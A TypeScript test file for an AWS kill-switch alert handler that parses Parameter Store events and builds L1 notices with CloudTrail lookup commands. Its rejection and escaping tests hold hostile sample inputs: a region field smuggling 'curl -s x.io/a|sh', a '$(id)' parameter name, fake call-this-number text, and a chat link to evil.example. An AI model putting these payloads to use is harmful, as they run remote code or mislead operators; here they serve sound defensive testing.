// SSM's "Parameter Store Change" for the kill switch (decision 178): parsed strictly from the documented shape, and told
// to L1 with what the switch says now, what that means, and where CloudTrail names who; outside text escaped.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { InvalidInputError } from '../../../shared/errors';
import { parseEscalateInput } from '../../../shared/escalation/escalate-input';
import type { KillSwitchChange } from '../../../shared/escalation/kill-switch-change';
import { killSwitchToldKey, renderKillSwitchChange, whoChangedCommand } from '../../../shared/escalation/render-kill-switch-change';

const fixture = JSON.parse(readFileSync(join(__dirname, '../../fixtures/events/parameter-store-change-update.json'), 'utf8')) as Record<string, unknown>;
const NAME = '/notification-runbooks/kill-switch';
const change: KillSwitchChange = { id: '9547ef2d-3b7e-4057-b6cb-5fdf09ee7c8f', name: NAME, operation: 'Update', time: '2026-12-06T10:44:48Z', account: '123456789012', region: 'us-east-1' };
const tier = { level: 1, name: 'DevOps Team (L1)' };
/** The deployment's account and region: what the handler renders from (it refuses a change from elsewhere). */
const context = { environment: 'production', account: '123456789012', region: 'us-east-1', tier, at: new Date('2026-12-06T10:45:10.500Z') };
/** What GetParameter answered with the value (review 13 R13-9: the notice states it, not the event's time). */
const written = { version: 7, modifiedAt: '2026-12-06T10:44:48.123Z' };
const QUERY = `--query "Events[?contains(CloudTrailEvent, '\\"${NAME}\\"')]"`;

describe('parseEscalateInput: a Parameter Store Change', () => {
  it('reads the documented event: name, operation, time, account, region', () => {
    expect(parseEscalateInput(fixture)).toEqual({ kind: 'kill-switch-change', change });
  });

  it.each([
    ['another source', { ...fixture, source: 'aws.cloudwatch' }],
    ['no parameter name', { ...fixture, detail: { operation: 'Update' } }],
    ['no operation', { ...fixture, detail: { name: NAME } }],
    ['a malformed account', { ...fixture, account: 'me' }],
    // Review 12, R12-3: a direct invoke of escalate put a shell command in the region and a message in the time.
    ['a region carrying a shell command', { ...fixture, region: 'us-east-1;curl -s x.io/a|sh' }],
    ['a region that is not a region code', { ...fixture, region: 'us-east-1 ' }],
    ['a time that is not EventBridge\'s', { ...fixture, time: 'now. Call the bridge: +1-555-0100' }],
    ['a time with text after it', { ...fixture, time: '2026-12-06T10:44:48Z, call +1-555-0100' }],
  ])('rejects one with %s', (_name, event) => {
    expect(() => parseEscalateInput(event)).toThrow(InvalidInputError);
  });

  it.each(['Create', 'Update', 'Delete', 'LabelParameterVersion'])('keeps SSM\'s documented operation %s', (operation) => {
    expect(parseEscalateInput({ ...fixture, detail: { ...(fixture.detail as object), operation } })).toEqual({ kind: 'kill-switch-change', change: { ...change, operation } });
  });

  it.each(['Update by SecOps - rotate keys now', 'update', 'Overwrite'])('reads any other operation (%s) as "unknown operation": the event\'s text never reaches a page', (operation) => {
    expect(parseEscalateInput({ ...fixture, detail: { ...(fixture.detail as object), operation } })).toEqual({ kind: 'kill-switch-change', change: { ...change, operation: 'unknown operation' } });
  });
});

describe('renderKillSwitchChange', () => {
  it.each([
    ['set to "stop"', { engaged: true, reason: `kill switch ${NAME} is "stop": no automated change is made (only exactly "off" turns it off)`, ...written }, 'automation stopped', 'nothing is changed automatically until it says exactly "off" again', 'version 7, written 2026-12-06T10:44:48.123Z', '--start-time 2026-12-06T10:39:48Z --end-time 2026-12-06T10:49:48Z'],
    ['put back to "off"', { engaged: false, reason: `kill switch ${NAME} is off`, ...written }, 'automation on', 'The automation acts again', 'version 7, written 2026-12-06T10:44:48.123Z', '--start-time 2026-12-06T10:39:48Z --end-time 2026-12-06T10:49:48Z'],
    // No version read: the event's time, said to be the event's, and a window from it to 5 min after the notice.
    ['unreadable right after', { engaged: true, unread: true as const, reason: `kill switch ${NAME} could not be read (ThrottlingException)` }, 'unreadable', 'could not be read', 'event time 2026-12-06T10:44:48Z; the parameter could not be read', '--start-time 2026-12-06T10:39:48Z --end-time 2026-12-06T10:50:10Z'],
  ])('tells L1 the switch was %s, what it means, and where to find who', (_name, now, inSubject, meaning, when, window) => {
    const notice = renderKillSwitchChange(change, now, context);
    expect(notice.subject).toBe(`[KILL SWITCH][production] ${NAME} Update: ${inSubject}`);
    expect(notice.text).toContain(`KILL SWITCH CHANGED (Update): ${when}, account 123456789012, us-east-1, production.`);
    expect(notice.text).toContain(`Now: ${now.reason}.`);
    expect(notice.text).toContain(meaning);
    expect(notice.text).toContain(`aws cloudtrail lookup-events --region us-east-1 --lookup-attributes AttributeKey=EventName,AttributeValue=PutParameter ${window} ${QUERY}`);
    expect(notice.chat.content.description).toContain('KILL SWITCH CHANGED (Update)');
  });

  // Review 13 R13-9: the lookup listed every PutParameter of the region, newest first, with no time bound.
  it.each([
    ['Create', written, 'EventName,AttributeValue=PutParameter', '2026-12-06T10:39:48Z', '2026-12-06T10:49:48Z'],
    ['Delete', { absent: true as const }, 'EventName,AttributeValue=DeleteParameter', '2026-12-06T10:39:48Z', '2026-12-06T10:50:10Z'],
    ['LabelParameterVersion', written, 'EventName,AttributeValue=LabelParameterVersion', '2026-12-06T10:39:48Z', '2026-12-06T10:50:10Z'],
    ['unknown operation', written, 'ReadOnly,AttributeValue=false', '2026-12-06T10:39:48Z', '2026-12-06T10:50:10Z'],
  ] as const)('looks %s up by its CloudTrail event, within minutes of the change, for the switch only', (operation, state, lookup, start, end) => {
    const now = { engaged: true, reason: 'r', ...state };
    expect(whoChangedCommand({ ...change, operation }, now, { region: 'us-west-2', name: NAME, at: context.at })).toBe(
      `aws cloudtrail lookup-events --region us-west-2 --lookup-attributes AttributeKey=${lookup} --start-time ${start} --end-time ${end} ${QUERY}`,
    );
  });

  it('bounds the window to the hour before the notice when the event claims a later time', () => {
    const command = whoChangedCommand({ ...change, operation: 'Delete', time: '2027-01-01T00:00:00Z' }, { engaged: true, reason: 'r', absent: true }, { region: 'us-east-1', name: NAME, at: context.at });
    expect(command).toContain('--start-time 2026-12-06T09:40:10Z --end-time 2026-12-06T10:50:10Z');
  });

  it('puts no name in the query that is not an SSM parameter name (nothing a shell would expand)', () => {
    expect(whoChangedCommand(change, { engaged: true, reason: 'r', ...written }, { region: 'us-east-1', name: '/a/$(id)', at: context.at })).not.toContain('--query');
  });

  it('builds the message and the CloudTrail command from the deployment\'s account and region, not the event\'s', () => {
    const notice = renderKillSwitchChange({ ...change, account: '111122223333', region: 'eu-west-1' }, { engaged: false, reason: `kill switch ${NAME} is off` }, { ...context, region: 'us-west-2' });
    expect(notice.text).toContain('account 123456789012, us-west-2, production.');
    expect(notice.text).toContain('lookup-events --region us-west-2 --lookup-attributes AttributeKey=EventName,AttributeValue=PutParameter');
    expect(notice.text).not.toMatch(/111122223333|eu-west-1/);
  });

  it('says "unknown operation" for an operation SSM does not document, and points CloudTrail at LabelParameterVersion for a label', () => {
    const unknown = renderKillSwitchChange({ ...change, operation: 'unknown operation' }, { engaged: false, reason: `kill switch ${NAME} is off` }, context);
    expect(unknown.text).toContain('KILL SWITCH CHANGED (unknown operation): event time 2026-12-06T10:44:48Z');
    const label = renderKillSwitchChange({ ...change, operation: 'LabelParameterVersion' }, { engaged: false, reason: `kill switch ${NAME} is off` }, context);
    expect(label.text).toContain('--region us-east-1 --lookup-attributes AttributeKey=EventName,AttributeValue=LabelParameterVersion');
  });

  it('points at DeleteParameter for a deleted switch (missing: failing closed)', () => {
    const notice = renderKillSwitchChange({ ...change, operation: 'Delete' }, { engaged: true, absent: true, reason: `kill switch ${NAME} does not exist: failing closed` }, context);
    expect(notice.text).toContain('AttributeValue=DeleteParameter');
    expect(notice.text).toContain('KILL SWITCH CHANGED (Delete): the parameter no longer exists (event time 2026-12-06T10:44:48Z)');
    expect(notice.subject).toContain('Delete: automation stopped');
  });

  it('escapes a written value in chat: no mention, no link', () => {
    const notice = renderKillSwitchChange(change, { engaged: true, reason: `kill switch ${NAME} is "<!here> <https://evil.example|run this>"` }, context);
    expect(notice.chat.content.description).not.toContain('<!here>');
    expect(notice.chat.content.description).not.toContain('<https://evil.example|run this>');
  });
});

// Review 12 R12-3, review 13 R13-9: a notice is told once per state of the switch, so the same event again repeats nothing.
describe('killSwitchToldKey', () => {
  it.each([
    ['a version read', { engaged: true, reason: 'r', ...written }, 'version 7 of 2026-12-06T10:44:48.123Z'],
    ['the same version re-created (a delete in between): its own time', { engaged: true, reason: 'r', version: 7, modifiedAt: '2026-12-07T08:00:00.000Z' }, 'version 7 of 2026-12-07T08:00:00.000Z'],
    ['a deleted switch', { engaged: true, reason: 'r', absent: true as const }, 'absent'],
    ['an unreadable switch: the event\'s id', { engaged: true, unread: true as const, reason: 'r' }, 'unread event 9547ef2d-3b7e-4057-b6cb-5fdf09ee7c8f'],
  ])('%s', (_name, now, key) => {
    expect(killSwitchToldKey(change, now)).toBe(key);
  });

  it('is the same for every event naming the same state, whatever its id, time or operation', () => {
    const now = { engaged: true, reason: 'r', ...written };
    expect(killSwitchToldKey({ id: 'another', time: '2026-12-06T11:00:00Z' }, now)).toBe(killSwitchToldKey(change, now));
  });
});
